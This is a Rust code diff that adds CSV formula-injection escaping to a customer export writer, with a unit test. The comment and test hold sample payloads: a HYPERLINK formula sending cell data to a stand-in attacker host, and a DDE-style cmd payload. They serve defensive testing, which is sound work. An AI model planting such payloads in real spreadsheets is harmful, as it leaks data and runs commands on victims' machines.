@@ -504,7 +504,39 @@ where
     I: IntoIterator<Item = S>,
     S: AsRef<[u8]>,
 {
-    w.write_record(fields).map_err(|e| io_err(path, e.into()))
+    let write = || -> csv::Result<()> {
+        for f in fields {
+            w.write_field(spreadsheet_safe(f.as_ref()))?;
+        }
+        // An empty record ends the one the fields were written to.
+        w.write_record(None::<&[u8]>)
+    };
+    write().map_err(|e| io_err(path, e.into()))
+}
+
+/// A cell as a spreadsheet may open it. Excel, LibreOffice and Google Sheets run a cell that
+/// starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula, and
+/// job titles, cities and ids come from web forms and CRM fields anyone can fill in:
+/// `=HYPERLINK("http://evil.example/?"&A1)` in a job title would run on the marketing team's
+/// machine. Such a cell is written with a leading apostrophe, as OWASP recommends. Numbers and
+/// phone numbers (`-12.50`, `+989121234567`, `+1 (415) 555-2106`) stay as they are: a sign
+/// before digits is no formula, and marketing tools need the `+` of a phone number.
+fn spreadsheet_safe(cell: &[u8]) -> std::borrow::Cow<'_, [u8]> {
+    let number = |rest: &[u8]| {
+        rest.iter().any(u8::is_ascii_digit)
+            && rest
+                .iter()
+                .all(|b| b.is_ascii_digit() || matches!(b, b'.' | b',' | b' ' | b'(' | b')' | b'-'))
+    };
+    match cell.first() {
+        Some(b'=' | b'@' | b'\t' | b'\r') => {}
+        Some(b'+' | b'-') if cell.len() > 1 && !number(&cell[1..]) => {}
+        _ => return std::borrow::Cow::Borrowed(cell),
+    }
+    let mut safe = Vec::with_capacity(cell.len() + 1);
+    safe.push(b'\'');
+    safe.extend_from_slice(cell);
+    std::borrow::Cow::Owned(safe)
 }
 
 /// One CSV row built in a reused buffer: the customers file has ~30 fields per customer, and a
@@ -931,6 +963,32 @@ pub(super) fn write_json(path: &Path, value: &Value) -> Result<(), SegmentError>
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_as_formulas_get_an_apostrophe() {
+        let safe = |s: &str| String::from_utf8(spreadsheet_safe(s.as_bytes()).into_owned()).unwrap();
+        for (cell, written) in [
+            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
+            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+            ("+CEO", "'+CEO"),
+            ("-A1", "'-A1"),
+            ("-1+1", "'-1+1"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("=1", "'=1"),
+            // Numbers, phone numbers and ordinary text as they are.
+            ("-12.50", "-12.50"),
+            ("+989121234567", "+989121234567"),
+            ("+1 (415) 555-2106", "+1 (415) 555-2106"),
+            ("-", "-"),
+            ("CEO", "CEO"),
+            ("a=b", "a=b"),
+            ("مدیر عامل", "مدیر عامل"),
+            ("", ""),
+        ] {
+            assert_eq!(safe(cell), written, "{cell:?}");
+        }
+    }
 
     #[test]
     fn row_buffer_fields_match_the_string_helpers() {
